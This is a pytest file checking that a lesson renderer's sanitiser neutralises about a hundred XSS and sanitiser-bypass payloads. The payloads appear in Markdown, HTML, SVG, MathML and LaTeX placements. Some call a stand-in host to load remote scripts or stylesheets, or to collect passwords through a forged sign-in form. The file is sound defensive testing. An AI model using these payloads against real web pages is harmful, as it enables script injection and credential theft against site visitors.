"""What a lesson's text cannot do: run scripts, load things, pass for the page around it."""

from __future__ import annotations

import random

import pytest

from lessons.rendering import ImageFile, render
from lessons.tests.pages import dangers, parsed

# After OWASP's "XSS Filter Evasion Cheat Sheet" and published bypasses of sanitisers by mutation.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x:gif" onerror="alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)' srcset='x 1x' usemap=#a style='x:y'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=a src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a href=\"#\" title=\"<a href='x'><img src=x onerror=alert(1)>\">x</a>",
    "<b title=\"<a href=\">x</b><a href='https://a.example' title='\" onmouseover=alert(1) x=\"'>y</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](https://a.example/x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](figure.png)',
    '![x](figure.png "x\\" onerror=\\"alert(1)")',
    '<img src=figure.png alt="&quot; onerror=&quot;alert(1)">',
    '<img src=figure.png alt="$x$" width="1&quot; onload=alert(1)">',
    "<img src=figure.png width='expression(alert(1))' height='1;x'>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$$\\style{position:fixed}{x} \\class{listing}{y} \\cssId{main}{z}$$",
    '$\\text{" onmouseover="alert(1)}$',
    "```\"><script>alert(1)</script>\nx\n```",
    "```python\n# </code></pre><script>alert(1)</script>\n```",
    "```python onload=alert(1)\n>>>\n</samp></pre><img src=x onerror=alert(1)>\n```",
    '```python\n# x"onclick="alert(1).py\n```',
    "`</code><script>alert(1)</script>`",
    "    </code><script>alert(1)</script>",
    "<pre><code></pre><script>alert(1)</script></code></pre>",
    "<div class='listing' data-listing='0'><button data-listing-action='run'>Run</button></div>",
    "<span class='code-bar'><a class='listing-run' href='https://evil.example'>Run</a></span>",
    "<div id=main><h1 id=main>x</h1><a name=main>y</a><p id='user-x'>z</p></div>",
    "</div></div></main><footer>the end</footer>",
    "# x {: onclick=alert(1) #main .listing }\n\ny {: id=main }",
    "!!! listing code-bar \"x\"\n    <script>alert(1)</script>",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "[^x]: <script>alert(1)</script>\n\nx[^x]",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
    "| a <script>alert(1)</script> |\n|---|\n| <td onclick=alert(1)> |",
    "<table><tr><td onclick=alert(1) background=javascript:alert(1)>x</td></tr></table>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "zq0123456789abcdefn0z \x02wzxhzdk:0\x03 \x02amp\x03",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<a\u2028href=javascript:alert(1)>x</a>",
]  # fmt: skip

PLACES = [
    "{}",
    "text {} text",
    "- {}",
    "> {}",
    "# T\n\n## {}",
    "| {} |\n|---|\n| {} |",
    "[{}](https://a.example)",
    "![{}](figure.png)",
    "**{}**",
    "<div align=center>\n{}\n</div>",
    "<a href='{}'>x</a>",
    "<strong>{}",
    "$x {} y$",
]


class Site:
    """The most careless resolver: it knows everything."""

    def link(self, href: str) -> str | None:
        return "/there/"

    def image(self, src: str) -> ImageFile | None:
        return ImageFile("/images/abc.png", 8, 4)


def html(markdown: str) -> str:
    return render(markdown, resolver=Site(), language="en").html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_wherever_it_stands(payload: str) -> None:
    for place in PLACES:
        assert dangers(html(place.replace("{}", payload))) == [], place


def test_payloads_are_harmless_together() -> None:
    chance = random.Random(1)  # the same mixtures every time
    for _ in range(300):
        text = "".join(
            piece[chance.randrange(len(piece)) :] if chance.random() < 0.3 else piece
            for piece in chance.choices([*PAYLOADS, "\n\n", "\n", " "], k=6)
        )
        assert dangers(html(text)) == [], text


def test_only_python_fences_become_listings() -> None:
    forged = "<div class='listing' data-listing='0'><button data-listing-action='run'>Run</button></div>"
    assert dangers(html(forged), listings=0) == []
    assert dangers(html(f"{forged}\n\n```python\nx\n```\n"), listings=1) == []


def test_an_authors_ids_and_classes_are_not_those_of_the_page() -> None:
    page = parsed(
        html("<span id='main' class='button notice'>x</span> <a name='Top 1'>y</a> <a href='#main'>z</a>")
    )
    assert [node.attributes for node in page.select("span")] == [{"id": "user-main"}, {"id": "user-top-1"}]
    assert page.select("a")[0].attributes == {"href": "#user-main"}


def test_scripts_are_shown_not_dropped() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html("<script>alert(1)</script>")
